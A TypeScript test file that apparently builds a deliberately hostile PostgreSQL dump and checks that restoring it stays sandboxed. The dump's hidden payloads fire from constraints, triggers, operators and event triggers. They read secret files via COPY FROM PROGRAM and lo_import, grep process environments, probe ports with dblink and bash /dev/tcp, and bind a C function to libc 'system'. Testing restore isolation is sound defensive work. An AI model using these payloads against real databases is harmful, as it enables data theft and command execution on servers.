/** Where a hostile dump tries to get to, from within a server that it is restored into. */
export interface Aims {
  /** A file that only the runner's account may read. */
  readonly secret: string
  /** A folder in which only that account may write. */
  readonly folder: string
  /** On loopback, as the runner sees it. */
  readonly port: number
  /** A port at an address of the machine, and so a network; what has none is to reach none. */
  readonly network?: { readonly address: string; readonly port: number }
}

/** What each of them would get hold of, and the words of SQL that try it; one that fails is a failure of the attack. */
function attempts({ secret, folder, port, network }: Aims): Readonly<Record<string, string>> {
  const program = (words: string) => `CREATE TEMP TABLE IF NOT EXISTS heard (line text); COPY pg_temp.heard FROM PROGRAM '${words}';
    IF NOT EXISTS (SELECT FROM pg_temp.heard) THEN RAISE EXCEPTION 'nothing'; END IF; DROP TABLE pg_temp.heard`
  return {
    'the secret, by a function': `PERFORM pg_catalog.pg_read_file('${secret}')`,
    'the secret, by a large object': `PERFORM pg_catalog.lo_unlink(pg_catalog.lo_import('${secret}'))`,
    'the secret, by a program': program(`cat ${secret}`),
    'the secret, by file_fdw': 'PERFORM FROM public.stolen; IF NOT FOUND THEN RAISE EXCEPTION $n$nothing$n$; END IF',
    'a folder, by COPY': `COPY (SELECT 1) TO '${folder}/copy'`,
    'a folder, by a program': `COPY (SELECT 1) TO PROGRAM 'cat > ${folder}/program'`,
    'a folder, by a large object': `PERFORM pg_catalog.lo_from_bytea(4000000001, $b$x$b$); PERFORM pg_catalog.lo_export(4000000001, '${folder}/object'); PERFORM pg_catalog.lo_unlink(4000000001)`,
    'the environment of the job': program('env | grep CANARY'),
    'the environment of a program of the job': program('cat /proc/[0-9]*/environ | tr "\\0" "\\n" | grep CANARY=job'),
    'a port of the job, by dblink': `PERFORM public.dblink_connect_u('a', 'host=127.0.0.1 port=${port} user=x dbname=x password=x connect_timeout=2')`,
    'a port of the job, by postgres_fdw': 'PERFORM FROM public.foreign_rows',
    ...(network === undefined ? {} : {
      'the network, by its routes': program('tail -n +2 /proc/net/route | cut -f 1'),
      'the network, by an interface': program('grep -E "(eth|ens|wlan)[0-9]" /proc/net/dev'),
      'a port of the machine, by a program': program(`bash -c "exec 3<>/dev/tcp/${network.address}/${network.port} && echo reached"`),
      'a port of the machine, by dblink': `PERFORM public.dblink_connect_u('b', 'host=${network.address} port=${network.port} user=x dbname=x password=x connect_timeout=2')`,
    }),
    'plpython3u': 'CREATE LANGUAGE plpython3u',
    'plperlu': 'CREATE EXTENSION plperlu',
    'a function in C': `CREATE FUNCTION public.shell(cstring) RETURNS int LANGUAGE c STRICT AS 'libc.so.6', 'system'`,
    'a function in C beside the server\'s own': `CREATE FUNCTION public.shell(cstring) RETURNS int LANGUAGE c STRICT AS '$libdir/../../../../../tmp/evil', 'shell'`,
    'an extension\'s script of its own': 'CREATE EXTENSION "../../../../../../tmp/evil"',
  }
}

/** Where the code of a dump runs in a restore, or may wait to be run. */
export const places = ['a CHECK', 'a domain', 'a generated column', 'a partition\'s operator', 'a materialized view']

/**
 * A database that tries all of it wherever its code runs in a restore, and is harmless at its source. What is reached, and where code ran, is told by
 * roles: they are no part of a database, so that nothing differs from the source.
 */
export function hostileDump(aims: Aims, major: number): string {
  const { secret, port } = aims
  const blocks = Object.entries(attempts(aims)).map(([name, words]) => `BEGIN ${words}; PERFORM public.note('reached ${name.replaceAll('\'', '\'\'')}'); EXCEPTION WHEN OTHERS THEN NULL; END;`)
  const reach = (place: string) => `public.reach('${place.replaceAll('\'', '\'\'')}')`
  return `
  CREATE EXTENSION dblink; CREATE EXTENSION file_fdw; CREATE EXTENSION postgres_fdw;
  CREATE SERVER files FOREIGN DATA WRAPPER file_fdw;
  CREATE FOREIGN TABLE stolen (line text) SERVER files OPTIONS (filename '${secret}');
  CREATE SERVER elsewhere FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '127.0.0.1', port '${port}', dbname 'x', connect_timeout '2');
  CREATE USER MAPPING FOR PUBLIC SERVER elsewhere OPTIONS (user 'x', password 'x');
  CREATE FOREIGN TABLE foreign_rows (line text) SERVER elsewhere;
  CREATE FUNCTION note(what text) RETURNS void LANGUAGE plpgsql AS $$
  BEGIN
    EXECUTE pg_catalog.format('CREATE ROLE %I', what);
  EXCEPTION WHEN OTHERS THEN NULL;
  END $$;
  CREATE FUNCTION reach(place text) RETURNS boolean LANGUAGE plpgsql AS $attack$
  BEGIN
    -- At the source, there is nothing to be had.
    IF pg_catalog.current_setting('autovacuum') <> 'off' OR EXISTS (SELECT FROM pg_catalog.pg_roles WHERE rolname = 'ran in ' || place) THEN RETURN true; END IF;
    PERFORM public.note('ran in ' || place);
    ${blocks.join('\n    ')}
    BEGIN
      EXECUTE pg_catalog.format('ALTER DATABASE %I SET search_path = public, pg_catalog', pg_catalog.current_database());
      EXECUTE 'ALTER ROLE postgres SET statement_timeout = 1';
    EXCEPTION WHEN OTHERS THEN NULL; END;
    RETURN true;
  END $attack$;
  CREATE FUNCTION reached(place text, int) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN RETURN public.reach(place); END $$;
  CREATE DOMAIN guarded AS int CHECK (${reach('a domain')});
  CREATE TABLE victims (id int PRIMARY KEY, name text DEFAULT ${reach('a default')}::text CHECK (${reach('a CHECK')}), kept guarded, made boolean GENERATED ALWAYS AS (public.reached('a generated column', id)) STORED);
  INSERT INTO victims SELECT i, 'name ' || i, i FROM pg_catalog.generate_series(1, 50) i;
  CREATE FUNCTION compare(int, int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN PERFORM ${reach('a partition\'s operator')}; RETURN pg_catalog.btint4cmp($1, $2); END $$;
  CREATE OPERATOR CLASS spying FOR TYPE int USING btree AS OPERATOR 1 <, OPERATOR 2 <=, OPERATOR 3 =, OPERATOR 4 >=, OPERATOR 5 >, FUNCTION 1 public.compare(int, int);
  CREATE TABLE parts (id int) PARTITION BY RANGE (id spying);
  CREATE TABLE parts_1 PARTITION OF parts FOR VALUES FROM (0) TO (100);
  INSERT INTO parts SELECT i FROM pg_catalog.generate_series(1, 50) i;
  CREATE RULE also AS ON INSERT TO victims DO ALSO SELECT ${reach('a rule')};
  CREATE FUNCTION fired() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM ${reach('a trigger')}; RETURN NEW; END $$;
  CREATE TRIGGER fired BEFORE INSERT ON victims FOR EACH ROW EXECUTE FUNCTION fired();
  ALTER TABLE victims ENABLE ALWAYS TRIGGER fired;
  CREATE POLICY seen ON victims USING (${reach('a policy')}); ALTER TABLE victims FORCE ROW LEVEL SECURITY, ENABLE ROW LEVEL SECURITY;
  CREATE TYPE weird AS (line text);
  CREATE FUNCTION cast_weird(weird) RETURNS bigint LANGUAGE sql AS $$ SELECT 0::bigint $$;
  CREATE CAST (weird AS bigint) WITH FUNCTION cast_weird(weird) AS IMPLICIT;
  CREATE FUNCTION never(name, name) RETURNS boolean LANGUAGE sql IMMUTABLE AS $$ SELECT false $$;
  CREATE OPERATOR = (LEFTARG = name, RIGHTARG = name, FUNCTION = never);
  CREATE FUNCTION never(text, text) RETURNS boolean LANGUAGE sql IMMUTABLE AS $$ SELECT false $$;
  CREATE OPERATOR = (LEFTARG = text, RIGHTARG = text, FUNCTION = never);
  CREATE VIEW pg_constraint AS SELECT * FROM pg_catalog.pg_constraint WHERE false;
  CREATE VIEW pg_class AS SELECT * FROM pg_catalog.pg_class WHERE false;
  CREATE MATERIALIZED VIEW trap AS SELECT ${reach('a materialized view')} AS sprung;
  CREATE FUNCTION heard_event() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM ${reach('an event trigger')}; END $$;
  CREATE EVENT TRIGGER at_commands ON ddl_command_end EXECUTE FUNCTION heard_event();
  CREATE EVENT TRIGGER at_drops ON sql_drop EXECUTE FUNCTION heard_event();
  CREATE EVENT TRIGGER at_rewrites ON table_rewrite EXECUTE FUNCTION heard_event();
  ${major < 17 ? '' : `
  CREATE FUNCTION heard_login() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM ${reach('a login')}; END $$;
  CREATE EVENT TRIGGER at_login ON login EXECUTE FUNCTION heard_login();`}
  ALTER DATABASE hostile SET search_path = public, pg_catalog;
  ALTER ROLE postgres IN DATABASE hostile SET statement_timeout = '1h';`
}

/** Checks of a restored hostile dump: each finds a row for what was reached, or for a place in which code ran. */
export function tellingChecks(aims: Aims): string {
  const check = (role: string) => `-- ${role}\nSELECT FROM pg_catalog.pg_roles WHERE rolname OPERATOR(pg_catalog.=) '${role.replaceAll('\'', '\'\'').slice(0, 63)}'::pg_catalog.name;\n`
  return [...Object.keys(attempts(aims)).map((name) => check(`reached ${name}`)), ...places.map((place) => check(`ran in ${place}`))].join('')
}
